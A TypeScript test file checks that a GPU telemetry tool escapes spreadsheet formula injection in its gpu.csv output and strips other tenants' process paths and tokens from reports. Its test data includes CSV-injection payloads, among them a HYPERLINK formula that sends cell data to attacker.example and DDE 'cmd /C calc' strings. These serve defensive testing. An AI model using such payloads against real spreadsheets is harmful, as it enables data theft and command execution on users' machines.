/**
 * gpu.csv is opened in spreadsheets, and its series column is a model tag, which the config
 * (a pull request) chooses: a tag such as `=HYPERLINK(…)` is a formula there. And on a shared
 * runner the GPU's other compute processes belong to other tenants: their full paths and
 * command lines (a home folder, a project name, a token in an argument) must not reach
 * report.json, report.html or the findings; only the program's file name and pid do.
 */
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { describe, expect, it } from 'vitest';
import { startGpuSampler } from '../../src/gpu/sampler.js';
import {
  csvLines,
  GPU_CSV_HEADER,
  type GpuTick,
  summariseSeries,
} from '../../src/gpu/telemetry.js';
import { parseGpuCsv } from '../../src/operations/gpuChart.js';

const FAKE = path.resolve('test/fixtures/nvidia-smi/fake');

const HOSTILE_TAGS = [
  '=HYPERLINK("http://attacker.example/?"&A1,"open")',
  '+1+cmd|" /C calc"!A0',
  '-2+3',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  "'=quoted already",
  'plain:7b',
];

/** The cells of one CSV line, quotes undone (as a spreadsheet reads it). */
function cells(line: string): string[] {
  const out: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const ch = line[i] as string;
    if (quoted && ch === '"' && line[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (ch === '"') quoted = !quoted;
    else if (ch === ',' && !quoted) {
      out.push(cell);
      cell = '';
    } else cell += ch;
  }
  out.push(cell);
  return out;
}

function tick(series: string, at = '2026-01-01T00:00:00.000Z'): GpuTick {
  return {
    at,
    series,
    gpus: [{ index: 0, memoryUsed: 100, utilization: 50, temperature: 40, power: 80 }],
    apps: [],
  };
}

describe('gpu.csv and formula injection', () => {
  it('no cell of a hostile model tag starts with a formula character', () => {
    for (const tag of HOSTILE_TAGS) {
      const [line] = csvLines(tick(tag), []);
      for (const cell of cells(line as string)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  it('the chart reads the tags back as they were', () => {
    const csv = [
      GPU_CSV_HEADER,
      ...HOSTILE_TAGS.flatMap((tag, i) => csvLines(tick(tag, `2026-01-01T00:00:0${i}.000Z`), [])),
    ].join('\n');
    expect(parseGpuCsv(csv).map((p) => p.series)).toEqual(HOSTILE_TAGS);
  });

  it('a line break in a tag does not start a new row', () => {
    const lines = csvLines(tick('a:1b\n2026-01-01T00:00:00Z,x,0,1,2'), []);
    expect(lines).toHaveLength(1);
    expect(lines[0]).not.toContain('\n');
  });
});

describe("another tenant's process on the GPU", () => {
  const path_ = '/home/tenant-b/secret-project/.venv/bin/python3';
  const app = { pid: 6262, name: `${path_} train.py --token=tk_0123456789abcdef`, usedMemory: 1 };

  it('is named by its program file and pid only', () => {
    const [series] = summariseSeries(
      [{ at: '2026-01-01T00:00:00Z', series: 'm:1b', gpus: [], apps: [app] }],
      ['m:1b'],
      [],
    );
    expect(series?.foreign).toEqual(['python3 (6262)']);
  });

  it('nothing of its path or arguments reaches the telemetry or gpu.csv', async () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'model-gate-tenant-'));
    const apps = path.join(dir, 'apps.csv');
    writeFileSync(
      apps,
      `pid, process_name, used_gpu_memory [MiB]\n4242, /usr/local/bin/ollama, 9216 MiB\n${app.pid}, ${app.name}, 20480 MiB\n`,
    );
    const csvPath = path.join(dir, 'gpu.csv');
    const env = {
      ...process.env,
      PATH: `${FAKE}${path.delimiter}${process.env.PATH ?? ''}`,
      FAKE_NVIDIA_SMI_STATE: mkdtempSync(path.join(tmpdir(), 'fake-smi-')),
      FAKE_NVIDIA_SMI_APPS: apps,
    };
    const sampler = await startGpuSampler({ intervalS: 0.05, csvPath, models: ['m:1b'], env });
    sampler.mark('m:1b');
    for (let waited = 0; sampler.samples() < 2 && waited < 20_000; waited += 50) await sleep(50);
    sampler.mark(null);
    const telemetry = await sampler.stop();
    expect(telemetry.series[0]?.foreign).toEqual(['python3 (6262)']);
    const written = `${JSON.stringify(telemetry)}\n${readFileSync(csvPath, 'utf8')}`;
    for (const piece of ['tenant-b', 'secret-project', 'train.py', 'tk_0123456789abcdef']) {
      expect(written).not.toContain(piece);
    }
  });
});
